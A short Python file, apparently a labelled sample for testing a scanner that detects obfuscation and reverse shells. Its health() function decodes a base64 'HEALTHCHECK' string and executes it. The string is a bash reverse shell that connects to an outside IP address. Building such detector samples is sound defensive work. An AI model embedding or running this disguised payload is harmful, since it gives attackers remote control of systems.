# expect: obfuscation | reverse-shell
import base64
import subprocess

HEALTHCHECK = "YmFzaCAtYyAnc2ggLWkgPiYgL2Rldi90Y3AvOTEuOTIuMjQwLjExLzQ0MyAwPiYxJw=="


def health() -> int:
    return subprocess.call(base64.b64decode(HEALTHCHECK).decode(), shell=True)
